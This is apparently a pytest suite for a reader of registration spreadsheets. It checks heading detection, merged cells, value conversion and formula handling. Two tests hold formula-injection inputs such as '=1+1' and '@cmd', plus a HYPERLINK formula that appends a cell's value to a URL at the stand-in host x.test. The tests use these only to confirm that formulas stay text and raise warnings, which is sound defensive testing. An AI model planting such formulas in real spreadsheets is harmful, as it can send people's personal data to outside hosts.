import io
import re
from datetime import date, datetime, time
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from competition.documents.sheet_headings import column_letter
from tests.documents.made_workbooks import SAMPLE, TITLES, cells_of, oddities, read, refusal, table, with_part, workbook

# --- where the table is ---------------------------------------------------------------------------------------------


def test_rows_have_their_real_numbers_and_blank_rows_are_left_out() -> None:
    found = read(table([("甲", SAMPLE, "1", "2"), ("", "", "", ""), ("乙", SAMPLE, "", "")]))
    assert [(row.number, row.cells["name"]) for row in found.rows] == [(2, "甲"), (4, "乙")]
    assert (found.sheet, found.heading_row) == ("报名信息", 1)
    assert found.columns == {"name": "A", "id_number": "B", "phone": "C", "born": "D"}
    assert (found.problems, found.warnings) == ((), ())


def test_headings_stand_below_a_merged_title_and_remarks() -> None:
    def fill(book: Any, page: Any) -> None:
        page.merge_range("A1:D1", "2025 年报名表", book.add_format())
        page.write("A2", "填写说明：姓名与证件一致")
        page.write_row("A5", TITLES)
        page.write_row("A6", ("甲", SAMPLE))

    found = read(workbook(fill))
    assert (found.heading_row, [row.number for row in found.rows]) == (5, [6])
    assert found.problems == ()


def test_headings_of_two_rows_with_downward_merges() -> None:
    def fill(book: Any, page: Any) -> None:
        plain = book.add_format()
        page.merge_range("A1:A2", "姓名", plain)
        page.merge_range("B1:D1", "选手信息", plain)
        page.write_row("B2", TITLES[1:])
        page.write_row("A3", ("甲", SAMPLE, "1", "2"))

    found = read(workbook(fill))
    assert found.columns == {"name": "A", "id_number": "B", "phone": "C", "born": "D"}
    assert [row.number for row in found.rows] == [3]


def test_headings_all_merged_over_two_rows() -> None:
    def fill(book: Any, page: Any) -> None:
        plain = book.add_format()
        for column, title in enumerate(TITLES):
            page.merge_range(0, column, 1, column, title, plain)
        page.write_row("A3", ("甲", SAMPLE))

    found = read(workbook(fill))
    assert ([row.number for row in found.rows], found.problems) == ([3], ())


def test_columns_in_another_order_with_extra_ones() -> None:
    found = read(table([("1", SAMPLE, "甲", "北辰")], titles=("序号", "证件号码", "姓名", "车间")))
    assert found.rows[0].cells == {"name": "甲", "id_number": SAMPLE, "phone": "", "born": ""}
    assert found.columns == {"name": "C", "id_number": "B"}
    assert [str(warning) for warning in found.warnings] == [
        "A 列“序号”不在模板中，未读取",
        "D 列“车间”不在模板中，未读取",
    ]


def test_row_with_only_a_running_number_is_blank() -> None:
    found = read(table([("1", SAMPLE, "甲"), ("2", "", ""), ("3", "", "")], titles=("序号", "证件号码", "姓名")))
    assert [row.number for row in found.rows] == [2]


@pytest.mark.parametrize("title", ["姓名*", " 姓 名 ", "姓名（必填）", "姓名：", "NAME", "姓\n名", "姓名(与证件一致)*"])
def test_titles_are_compared_without_decoration(title: str) -> None:
    assert cells_of(read(table([("甲", SAMPLE)], titles=(title, "身份证号"))), "name") == ["甲"]


def test_first_sheet_that_has_the_headings_is_read() -> None:
    def fill(book: Any, page: Any) -> None:
        page.write("A1", "填写说明")
        hidden = book.add_worksheet("旧")
        hidden.write_row("A1", TITLES)
        hidden.write_row("A2", ("隐藏", SAMPLE))
        hidden.hide()
        book.add_chartsheet("图")
        right = book.add_worksheet("名单")
        right.write_row("A1", TITLES)
        right.write_row("A2", ("甲", SAMPLE))

    found = read(workbook(fill, "说明"))
    assert (found.sheet, cells_of(found, "name")) == ("名单", ["甲"])


@pytest.mark.parametrize(("number", "letter"), [(1, "A"), (26, "Z"), (27, "AA"), (702, "ZZ"), (703, "AAA")])
def test_column_letter(number: int, letter: str) -> None:
    assert column_letter(number) == letter


# --- wrong headings -------------------------------------------------------------------------------------------------


def test_missing_columns_are_named_with_what_was_found_instead() -> None:
    assert refusal(table([("甲", "1", "2")], titles=("选手姓名", "身份证号", "车间"))) == [
        "缺少列“姓名”；表中“选手姓名”与之相近，如是此列则改列名",
        "工作表“报名信息”第 1 行另有列：选手姓名、车间",
    ]


def test_missing_optional_column_is_no_problem() -> None:
    assert cells_of(read(table([("甲", SAMPLE)], titles=TITLES[:2])), "phone") == [""]


def test_no_headings_at_all() -> None:
    assert refusal(table([("乙", "2")], titles=("甲", "1"))) == [
        "工作表“报名信息”前 10 行内没有表头",
        "缺少列“姓名”",
        "缺少列“证件号码”",
    ]


def test_headings_below_row_ten_are_not_looked_for() -> None:
    assert refusal(table([("甲", SAMPLE)], first=10))[0] == "工作表“报名信息”前 10 行内没有表头"


def test_column_that_comes_twice_is_refused() -> None:
    assert refusal(table([("甲", SAMPLE, "乙", "1")], titles=("姓名", "证件号码", "Name", "身份证号"))) == [
        "列“姓名”不止一处：A、C；只留一列",
        "列“证件号码”不止一处：B、D；只留一列",
    ]


def test_empty_tables() -> None:
    assert refusal(workbook(lambda _book, _page: None)) == ["工作簿中没有内容"]
    assert refusal(table([])) == ["工作表“报名信息”表头下没有数据"]


# --- cells ----------------------------------------------------------------------------------------------------------


def test_values_become_text() -> None:
    def fill(book: Any, page: Any) -> None:
        page.write_row("A1", TITLES)
        day, moment, hour = (
            book.add_format({"num_format": shape}) for shape in ("yyyy-mm-dd", "yyyy-mm-dd hh:mm", "hh:mm")
        )
        page.write_row("A2", (4, 4.5, 13_800_002_207))
        page.write_datetime("D2", datetime(2007, 1, 9), day)  # noqa: DTZ001 - a sheet has no zone
        page.write_row("A3", (24.749999999999993, True, -3))
        page.write_datetime("D3", datetime(2007, 1, 9, 8, 30), moment)  # noqa: DTZ001 - a sheet has no zone
        page.write_row("A4", (" 甲\u3000", "乙\u200b", "\ufeff1\x00"))
        page.write_datetime("D4", time(8, 30), hour)
        page.write_datetime("A5", date(2007, 1, 9), book.add_format({"num_format": 'yyyy"年"m"月"d"日"'}))

    found = read(workbook(fill))
    assert [list(row.cells.values()) for row in found.rows] == [
        ["4", "4.5", "13800002207", "2007-01-09"],
        ["24.75", "TRUE", "-3", "2007-01-09 08:30"],
        ["甲", "乙", "1", "08:30"],
        ["2007-01-09", "", "", ""],
    ]
    assert found.problems == ()


def test_id_number_stored_as_a_number_is_an_error_at_its_cell() -> None:
    lost = "数字超过 15 位，末尾已丢失；该列须设为文本后重填"
    found = read(table([("甲", 110105194912310021), ("乙", SAMPLE), ("丙", "1.10105E+17"), ("丁", 99999999999999)]))
    assert oddities(found) == [("B2", "id_number", lost, "error"), ("B4", "id_number", lost, "error")]
    assert cells_of(found, "id_number")[3] == "99999999999999"


@pytest.mark.parametrize("text", ["=1+1", "+86", "-", "@cmd"])
def test_text_that_starts_like_a_formula_stays_text_with_a_warning(text: str) -> None:
    found = read(table([("甲", SAMPLE, text)]))
    assert cells_of(found, "phone") == [text]
    assert oddities(found) == [("C2", "phone", f"以 {text[0]} 开头；已按文本保存，不执行公式", "warning")]


def test_formula_gives_its_saved_result_with_a_warning() -> None:
    def fill(_book: Any, page: Any) -> None:
        page.write_row("A1", TITLES)
        page.write_row("A2", ("甲", SAMPLE))
        page.write_formula("C2", '=LEFT("13800002207x",11)', None, "13800002207")
        page.write_formula("D2", "=1+1", None, 2)

    found = read(workbook(fill))
    text = "单元格是公式；已取保存的结果为文本，不执行公式"
    assert (found.rows[0].cells["phone"], found.rows[0].cells["born"]) == ("13800002207", "2")
    assert oddities(found) == [("C2", "phone", text, "warning"), ("D2", "born", text, "warning")]


def test_formula_without_a_saved_result_stays_as_text() -> None:
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.append(TITLES)
    page.append(("甲", SAMPLE))
    page["C2"] = '=HYPERLINK("http://x.test?"&A2,"<点>")'
    page["A3"] = "=A2"
    buffer = io.BytesIO()
    book.save(buffer)
    found = read(buffer.getvalue())
    text = "单元格是公式且未保存结果；已按文本保存，不执行公式"
    assert cells_of(found, "phone") == ['=HYPERLINK("http://x.test?"&A2,"<点>")', ""]
    assert oddities(found) == [("C2", "phone", text, "warning"), ("A3", "name", text, "warning")]


def test_rows_prepared_with_formulas_that_give_nothing_are_blank() -> None:
    def fill(_book: Any, page: Any) -> None:
        page.write_row("A1", TITLES)
        page.write_row("A2", ("甲", SAMPLE))
        for row in (2, 3):
            page.write_formula(row, 3, f'=IF(B{row}="","",1)', None, "")

    data = with_part(
        workbook(fill),
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb'<c r="(D\d)"><f>', rb"<c r='\1' t='str'><f>", xml),
    )
    found = read(data)
    assert ([row.number for row in found.rows], found.problems) == ([2], ())


def test_error_value_is_an_error_not_a_blank() -> None:
    def fill(_book: Any, page: Any) -> None:
        page.write_row("A1", TITLES)
        page.write("A2", "甲")
        page.write_formula("B2", "=Z1/0", None, "#DIV/0!")

    assert oddities(read(workbook(fill))) == [("B2", "id_number", "单元格是错误值（如 #REF!），须填实际内容", "error")]


def test_formulas_are_found_on_the_sheet_that_is_read() -> None:
    """The second sheet by name, which the package keeps under another number."""

    def fill(book: Any, page: Any) -> None:
        page.write_formula("C2", "=1", None, 1)
        right = book.add_worksheet("A & B's")
        right.write_row("A1", TITLES)
        right.write_row("A2", ("甲", SAMPLE, "1"))
        right.write_formula("D2", "=1", None, 1)

    assert [place for place, *_ in oddities(read(workbook(fill, "说明")))] == ["D2"]


def test_merged_cells_in_the_data_are_errors_in_every_row_they_touch() -> None:
    def fill(book: Any, page: Any) -> None:
        plain = book.add_format()
        page.write_row("A1", ("姓名", "证件号码", "车间", "联系电话"))
        for row in (1, 2, 3):
            page.write_row(row, 0, ("甲", SAMPLE, "x", "1"))
        page.merge_range("D3:D4", "2", plain)
        page.merge_range("C2:C3", "不读取", plain)
        page.merge_range("A6:D6", "注：以上由单位填写", plain)

    found = read(workbook(fill))
    assert oddities(found) == [
        ("D3", "phone", "合并单元格 D3:D4；须取消合并，逐格填写", "error"),
        ("D4", "phone", "合并单元格 D3:D4；须取消合并，逐格填写", "error"),
        ("A6", "name", "合并单元格 A6:D6；须取消合并，逐格填写", "error"),
    ]


def test_old_xls_is_read_by_its_content_whatever_its_name() -> None:
    found = read((Path(__file__).parent / "old_format.xls").read_bytes())
    assert (found.heading_row, cells_of(found, "phone")[0], cells_of(found, "born")) == (
        2,
        "13800002207",
        ["2007-01-09", "2007-01-10"],
    )
    assert [(place, severity) for place, _, _, severity in oddities(found)] == [("B4", "error")]
